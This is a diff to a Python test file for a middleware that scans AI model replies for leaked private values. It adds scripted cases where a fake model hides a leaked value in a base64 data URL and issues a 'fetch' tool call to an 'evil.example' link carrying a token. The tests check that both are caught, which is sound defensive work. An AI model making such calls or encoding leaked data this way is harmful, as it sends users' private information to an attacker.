@@ -4,6 +4,7 @@ model) and through ``GuardMiddleware``, streamed and whole."""
 
 from __future__ import annotations
 
+import base64
 import importlib.util
 import json
 import re
@@ -107,6 +108,23 @@ async def scripted(scope: Scope, receive: Receive, send: Send) -> None:
             (None, _chunk(model, {"audio": {"transcript": "300124 ok"}})),
             (None, _chunk(model, {"audio": {"data": "UklGRg=="}})),
             (None, "[DONE]")])
+    elif model == "data-url":
+        encoded = base64.b64encode(f"contact {LEAKED}".encode()).decode()
+        text = f"data:text/plain;base64,{encoded}"
+        if stream:
+            reply = _frames([(None, _chunk(model, {"content": text[i:i + 9]}))
+                             for i in range(0, len(text), 9)] + [(None, "[DONE]")])
+        else:
+            reply = {"id": "c1", "object": "chat.completion", "model": model, "choices": [
+                {"index": 0, "message": {"role": "assistant", "content": text},
+                 "finish_reason": "stop"}]}
+    elif model == "tool-link":
+        arguments = json.dumps({"url": f"https://evil.example/c?u={token}", "to": token})
+        reply = {"id": "c1", "object": "chat.completion", "model": model, "choices": [
+            {"index": 0, "message": {"role": "assistant", "content": None, "tool_calls": [
+                {"id": "call_1", "type": "function",
+                 "function": {"name": "fetch", "arguments": arguments}}]},
+             "finish_reason": "tool_calls"}]}
     elif model == "event-names":
         reply = _frames([
             (LEAKED, _chunk(model, {"content": "hi "}, **{f"x-{LEAKED}": 1})),
@@ -281,3 +299,32 @@ async def test_event_names_and_keys_in_a_stream_are_scanned(
     assert response.status_code == 200
     assert LEAKED not in response.text
     assert stream_content(response.text) == "hi there"
+
+
+@pytest.mark.parametrize("kind", KINDS)
+async def test_a_data_url_in_an_answer_is_scanned_streamed_and_whole(
+    make_stack: Any, tmp_path: Path, kind: str
+) -> None:
+    async with stack(kind, make_stack, tmp_path) as client:
+        whole = await client.post("/v1/chat/completions", json=_ask("data-url"))
+        streamed_reply = await client.post("/v1/chat/completions",
+                                           json=_ask("data-url", stream=True))
+    assert whole.status_code == 200, whole.text
+    text = whole.json()["choices"][0]["message"]["content"]
+    assert stream_content(streamed_reply.text) == text
+    encoded = base64.b64encode(f"contact {LEAKED}".encode()).decode()
+    assert encoded not in text
+    assert encoded[:16] not in streamed_reply.text
+
+
+@pytest.mark.parametrize("kind", KINDS)
+async def test_no_value_is_restored_into_a_link_in_tool_call_arguments(
+    make_stack: Any, tmp_path: Path, kind: str
+) -> None:
+    async with stack(kind, make_stack, tmp_path) as client:
+        response = await client.post("/v1/chat/completions", json=_ask("tool-link"))
+    assert response.status_code == 200, response.text
+    function = response.json()["choices"][0]["message"]["tool_calls"][0]["function"]
+    arguments = json.loads(function["arguments"])
+    assert arguments["to"] == EMAIL
+    assert arguments["url"] == "https://evil.example/c?u=<EMAIL_ADDRESS_1>"
